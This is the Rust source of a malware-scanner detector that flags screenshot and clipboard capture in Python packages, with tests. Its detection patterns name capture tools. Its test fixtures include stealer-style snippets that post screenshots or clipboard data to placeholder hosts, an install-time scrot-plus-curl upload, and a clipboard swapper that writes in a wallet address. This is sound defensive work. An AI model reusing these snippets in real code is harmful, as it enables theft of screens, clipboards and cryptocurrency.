//! `hunting.screen-capture`: takes screenshots or reads the clipboard — PIL
//! `ImageGrab.grab`, `mss`, `pyautogui`/`pyscreenshot`, `pyperclip.paste`, tkinter
//! `clipboard_get`, `win32clipboard.GetClipboardData`, and the platform tools run
//! from command strings (`screencapture`, `import -window root`, `scrot`,
//! `gnome-screenshot`, `pbpaste`, `xclip -o`, `xsel`, PowerShell `Get-Clipboard`,
//! `CopyFromScreen`).
//!
//! Screenshot tools, GUI automation and terminal libraries use these legitimately,
//! so alone a capture is Low. What stealers do is pair it with a send: a capture in
//! a Python file that also sends over the network ([`super::sinks::network`]) is High,
//! Critical when the capture runs on import (module level, or a function the module
//! calls); any capture in install-time code is Critical. Capped by place (`context`):
//! tests/docs/CI Medium, data files Low. Python API calls count in code only; tool
//! names count in expression strings (the command) and in non-Python scripts;
//! comments and docstrings never.

use super::context;
use super::pysrc::{self, Kind, MAX_HITS_PER_FILE};
use super::sinks;
use crate::model::{Category, FileRole, Severity};
use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, Interest, TextFile};
use regex::Regex;
use std::sync::LazyLock;

pub(crate) static META: DetectorMeta = DetectorMeta {
    id: "hunting.screen-capture",
    revision: 4,
    title: "Captures the screen or reads the clipboard.",
    category: Category::Hunting,
    severity: Severity::Low,
    description: "Screenshots and clipboard contents (passwords, wallet addresses, tokens) are what stealers collect before sending them away.",
};

/// Python APIs, matched in code.
static API: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?-u:\b)(?:ImageGrab\.grab(?:clipboard)?|pyautogui\.screenshot|pyscreenshot\.grab|pyscreeze\.screenshot|mss\.mss|mss\.(?:grab|shot)|pyperclip\.paste|(?:win32clipboard\.)?GetClipboardData|clipboard_get|QApplication\.clipboard|(?:gtk|Gtk)\.Clipboard\.get|grabWindow|CopyFromScreen)\s*\(")
        .expect("capture api")
});
/// Platform tools, matched in command strings and scripts.
/// `xclip`/`xsel` as a list element, read mode given by a later element:
/// `['xclip', '-o', '-selection', 'clipboard']`.
static TOOL_ARGV: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"['"](?:xclip|xsel)['"](?:\s*,\s*['"][\w-]+['"])*?\s*,\s*['"](?:-o|-out|--output)['"]"#)
        .expect("tool argv")
});
static TOOL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?-u:\b)(?:screencapture(?:\s+-\w+)*|import\s+-window\s+root|scrot|gnome-screenshot|spectacle\s+-b|pbpaste|xclip(?:\s+-\w+(?:\s+\w+)?)*?\s+-o(?:ut)?|xsel(?:\s+-\w+)*\s+(?:-o|--output|-b|--clipboard)|Get-Clipboard|CopyFromScreen|Clipboard\]::GetText)(?-u:\b)")
        .expect("capture tool")
});

/// A shell tool inside a Python string runs only as a command: first in the string (after a
/// path or `sudo`/`exec`/`env`), or after a shell separator (`|`, `;`, `&&`, `$(`, a
/// backtick, a new line). One word among others (`keywords="screenshot scrot capture"`,
/// a help text naming the tool) is prose. PowerShell and .NET names count anywhere.
fn in_command_position(src: &crate::scan::source::Source<'_>, at: usize, tool: &str) -> bool {
    if tool.starts_with("Get-Clipboard") || tool.starts_with("CopyFromScreen") || tool.starts_with("Clipboard]") {
        return true;
    }
    let Some(span) = src.span_at(at) else { return true };
    let mut before = src.text.get(span.body_start.min(at)..at).unwrap_or("").trim_end_matches([' ', '\t']);
    if let Some(dir) = before.strip_suffix('/') {
        // `/usr/bin/scrot`: the path is part of the command word.
        before = dir.trim_end_matches(|c: char| !" \t|;&(`\n".contains(c)).trim_end_matches([' ', '\t']);
    }
    let last_word = before.rsplit([' ', '\t']).next().unwrap_or("");
    before.is_empty()
        || before.ends_with(['|', ';', '&', '(', '`', '\n'])
        || before.ends_with("\\n")
        || matches!(last_word, "sudo" | "exec" | "env" | "nohup" | "timeout")
}

/// What a clipboard read is reported as (see the swap check in `scan_text`).
const CLIPBOARD_READ: &[&str] =
    &["paste", "GetClipboardData", "clipboard_get", "clipboard", "xclip", "xsel", "pbpaste", "Get-Clipboard"];
/// A clipboard write of a string literal: `pyperclip.copy('bc1q…')`, `SetClipboardText("…")`.
static CLIPBOARD_WRITE_LITERAL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?-u:\b)(?:pyperclip\.copy|SetClipboardText|SetClipboardData|clipboard_append)\s*\(\s*(?:[\w.]+\s*,\s*)?[rbuRBU]?['"][^'"\n]{8,}['"]\s*\)"#)
        .expect("clipboard write")
});

pub(crate) struct ScreenCapture;

impl Detector for ScreenCapture {
    fn meta(&self) -> &'static DetectorMeta {
        &META
    }
    fn interest(&self) -> Interest {
        Interest::Literals(&[
            "ImageGrab",
            "screenshot",
            "mss.",
            "pyperclip",
            "GetClipboardData",
            "clipboard",
            "grabWindow",
            "CopyFromScreen",
            "screencapture",
            "-window root",
            "scrot",
            "pbpaste",
            "xclip",
            "xsel",
            "Get-Clipboard",
            "Clipboard]",
        ])
    }
    fn scan_text(&self, file: &TextFile<'_>, hits: &mut Hits) {
        if file.role == FileRole::Metadata {
            return;
        }
        let src = file.source();
        let mut found: Vec<(usize, &str)> = Vec::new();
        if src.python {
            for m in API.find_iter(file.text) {
                if src.is_code(m.start()) && !pysrc::is_definition(file.text, m.start()) {
                    found.push((m.start(), m.as_str().trim_end_matches('(').trim_end()));
                }
            }
        }
        for m in TOOL.find_iter(file.text) {
            if !src.python || src.kind_at(m.start()) == Kind::Str && in_command_position(src, m.start(), m.as_str()) {
                found.push((m.start(), m.as_str()));
            }
        }
        if src.python {
            for m in TOOL_ARGV.find_iter(file.text) {
                if src.kind_at(m.start()) == Kind::Str {
                    let tool = m.as_str()[1..].split(['\'', '"']).next().unwrap_or("");
                    found.push((m.start(), tool));
                }
            }
        }
        if found.is_empty() {
            return;
        }
        found.sort_by_key(|f| f.0);
        // The send that would carry the capture away (Python only: a script's own pipes are
        // judged by the download/exfiltration detectors).
        let send = if src.python { sinks::network(src).into_iter().next().map(|s| s.name) } else { None };
        // Captured and sent when the module is imported: as bad as at install.
        let on_import = |off: usize| {
            file.path.rsplit(['/', '!']).next() != Some("__main__.py") && pysrc::runs_on_import_at(src, off)
        };
        // A clipboard hijacker needs no network: it reads the clipboard and writes a fixed
        // string back (the attacker's wallet address in place of the one the user copied).
        let swap = src.python
            && found.iter().any(|(_, what)| CLIPBOARD_READ.iter().any(|r| what.contains(r)))
            && CLIPBOARD_WRITE_LITERAL.find_iter(file.text).any(|m| src.is_code(m.start()));
        let sev = match (file.role, send) {
            (FileRole::InstallTime, _) => Severity::Critical,
            (_, Some(_)) if src.python && on_import(found[0].0) => Severity::Critical,
            (_, Some(_)) => Severity::High,
            (_, None) if swap => Severity::High,
            (_, None) => Severity::Low,
        };
        let sev = context::cap(file, sev);
        let mut seen: Vec<&str> = Vec::new();
        for (off, what) in found {
            if seen.len() >= MAX_HITS_PER_FILE || seen.contains(&what) {
                continue;
            }
            seen.push(what);
            let ind = match send {
                Some(s) => format!("{what} + {s}"),
                None if swap => format!("{what} + clipboard replaced with a fixed string"),
                None => what.to_string(),
            };
            hits.push(&META, Hit { severity: Some(sev), evidence: pysrc::evidence(file, off, ind) });
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scan::detectors::testutil::table;
    use FileRole::*;
    use Severity::*;

    const STEALER: &str = "import io, requests\nfrom PIL import ImageGrab\n\ndef snap():\n    img = ImageGrab.grab()\n    buf = io.BytesIO()\n    img.save(buf, 'PNG')\n    requests.post(HOOK, files={'f': buf.getvalue()})\n";

    #[test]
    fn cases() {
        table(
            &ScreenCapture,
            META.id,
            &[
                ("screenshot posted to a server", "pkg/util.py", Runtime, STEALER, Some((5, "ImageGrab.grab + requests.post", High))),
                ("screenshot in setup.py", "setup.py", InstallTime, "from PIL import ImageGrab\nImageGrab.grab().save('/tmp/s.png')\n", Some((2, "ImageGrab.grab", Critical))),
                (
                    "clipboard sent by urllib at import",
                    "pkg/__init__.py",
                    Runtime,
                    "import pyperclip, urllib.request\ndata = pyperclip.paste().encode()\nurllib.request.urlopen(urllib.request.Request(U, data=data))\n",
                    Some((2, "pyperclip.paste + urllib.request.urlopen", Critical)),
                ),
                (
                    "win32 clipboard and a socket, in a function",
                    "pkg/c.py",
                    Runtime,
                    "import win32clipboard, socket\ndef f():\n    t = win32clipboard.GetClipboardData()\n    s = socket.create_connection((H, 443))\n    s.sendall(t.encode())\n",
                    Some((3, "win32clipboard.GetClipboardData + socket.create_connection", High)),
                ),
                (
                    "tkinter clipboard_get alone",
                    "pkg/gui.py",
                    Runtime,
                    "def paste(self):\n    return self.root.clipboard_get()\n",
                    Some((2, "clipboard_get", Low)),
                ),
                (
                    "mss in a screenshot tool, no network",
                    "shotlib/capture.py",
                    Runtime,
                    "import mss\nwith mss.mss() as sct:\n    sct.shot(output='s.png')\n",
                    Some((2, "mss.mss", Low)),
                ),
                (
                    "macOS screencapture command then upload",
                    "pkg/a.py",
                    Runtime,
                    "import subprocess, requests\ndef snap():\n    subprocess.run(['screencapture', '-x', P])\n    requests.post(U, data=open(P, 'rb'))\n",
                    Some((3, "screencapture + requests.post", High)),
                ),
                (
                    "ImageMagick whole-screen grab in a shell script",
                    "pkg/bin/grab.sh",
                    Runtime,
                    "#!/bin/sh\nimport -window root /tmp/s.png\n",
                    Some((2, "import -window root", Low)),
                ),
                (
                    "xclip read in a command string",
                    "pkg/clip.py",
                    Runtime,
                    "out = subprocess.check_output('xclip -selection clipboard -o', shell=True)\n",
                    Some((1, "xclip -selection clipboard -o", Low)),
                ),
                (
                    "pbpaste at install",
                    "setup.py",
                    InstallTime,
                    "import os\nos.popen('pbpaste').read()\n",
                    Some((2, "pbpaste", Critical)),
                ),
                ("pyautogui defining its own screenshot", "pyautogui/__init__.py", Runtime, "def screenshot(*args, **kwargs):\n    return pyscreeze.screenshot(*args, **kwargs)\n", Some((2, "pyscreeze.screenshot", Low))),
                (
                    "clipboard read via an xclip argv and sent on import",
                    "pkg/__init__.py",
                    Runtime,
                    "import subprocess, urllib.request\nclip = subprocess.check_output(['xclip', '-o', '-selection', 'clipboard'])\nurllib.request.urlopen(U, data=clip)\n",
                    Some((2, "xclip + urllib.request.urlopen", Critical)),
                ),
                (
                    "screenshot sent from a function the module calls",
                    "pkg/__init__.py",
                    Runtime,
                    "def _go():\n    ImageGrab.grab().save(b)\n    requests.post(U, data=b)\n_go()\n",
                    Some((2, "ImageGrab.grab + requests.post", Critical)),
                ),
                (
                    "screenshot sent two calls deep from import-time code",
                    "pkg/__init__.py",
                    Runtime,
                    "def _snap():\n    ImageGrab.grab().save(b)\n    requests.post(U, data=b)\ndef _go():\n    _snap()\n_go()\n",
                    Some((2, "ImageGrab.grab + requests.post", Critical)),
                ),
                (
                    "screenshot sent from a thread started on import",
                    "pkg/__init__.py",
                    Runtime,
                    "import threading\ndef _snap():\n    ImageGrab.grab().save(b)\n    requests.post(U, data=b)\nthreading.Thread(target=_snap, daemon=True).start()\n",
                    Some((3, "ImageGrab.grab + requests.post", Critical)),
                ),
                (
                    "screenshot tool's upload command run under a __main__ guard",
                    "pkg/shot.py",
                    Runtime,
                    "def _snap():\n    ImageGrab.grab().save(b)\n    requests.post(U, data=b)\nif __name__ == '__main__':\n    _snap()\n",
                    Some((2, "ImageGrab.grab + requests.post", High)),
                ),
                (
                    "clipboard swapper: read, then a fixed address written back",
                    "pkg/watch.py",
                    Runtime,
                    "import pyperclip, re\ndef watch():\n    if re.match(P, pyperclip.paste()):\n        pyperclip.copy('0x52908400098527886E0F7030069857D2E4169EE7')\n",
                    Some((3, "pyperclip.paste + clipboard replaced with a fixed string", High)),
                ),
                (
                    "an editor's paste and copy of computed text",
                    "pkg/editor.py",
                    Runtime,
                    "import pyperclip\ndef cut(self):\n    pyperclip.copy(self.selection())\ndef paste(self):\n    self.insert(pyperclip.paste())\n",
                    Some((5, "pyperclip.paste", Low)),
                ),
                (
                    "a fixed string copied, no clipboard read",
                    "pkg/cli.py",
                    Runtime,
                    "import pyperclip\npyperclip.copy('pip install demo-package')\n",
                    None,
                ),
                ("xclip argv writing", "pkg/clip.py", Runtime, "subprocess.run(['xclip', '-i', '-selection', 'clipboard'], input=t)\n", None),
                ("capture in tests is capped", "pkg/tests/test_shot.py", TestOrDocs, STEALER, Some((5, "ImageGrab.grab + requests.post", Medium))),
                (
                    "tool names among the keywords of setup()",
                    "setup.py",
                    InstallTime,
                    "setup(name='shots', keywords=\"screenshot screen capture scrot screencapture image\")\n",
                    None,
                ),
                (
                    "a help text naming the tool",
                    "pkg/cli.py",
                    Runtime,
                    "import requests\nHELP = 'uses scrot or gnome-screenshot when installed'\nrequests.post(U)\n",
                    None,
                ),
                (
                    "the tool first in a command string at install",
                    "setup.py",
                    InstallTime,
                    "import os\nos.system('scrot /tmp/s.png')\n",
                    Some((2, "scrot", Critical)),
                ),
                (
                    "the tool by its path after a separator",
                    "setup.py",
                    InstallTime,
                    "import os\nos.system('cd /tmp; /usr/bin/scrot s.png && curl -F f=@s.png U')\n",
                    Some((2, "scrot", Critical)),
                ),
                (
                    "the tool after sudo, sent on",
                    "pkg/a.py",
                    Runtime,
                    "import subprocess, requests\ndef f():\n    subprocess.run('sudo screencapture -x /tmp/a.png', shell=True)\n    requests.post(U, data=open('/tmp/a.png','rb'))\n",
                    Some((3, "screencapture -x + requests.post", High)),
                ),
                ("mentioned in a docstring", "pkg/a.py", Runtime, "\"\"\"Use ImageGrab.grab() or scrot to capture.\"\"\"\nimport requests\nrequests.post(U)\n", None),
                ("mentioned in a comment", "pkg/a.py", Runtime, "# pyperclip.paste() would work too\nx = 1\n", None),
                ("xclip writing (copy, not read)", "pkg/clip.py", Runtime, "subprocess.run(['xclip', '-selection', 'clipboard'], input=t)\n", None),
                ("the word screenshot in an API name", "pkg/a.py", Runtime, "def take_screenshot(driver):\n    return driver.get_screenshot_as_png()\n", None),
                ("clipboard word only", "pkg/a.py", Runtime, "COPY_TO_CLIPBOARD = 'Copied to clipboard'\n", None),
            ],
        );
    }
}
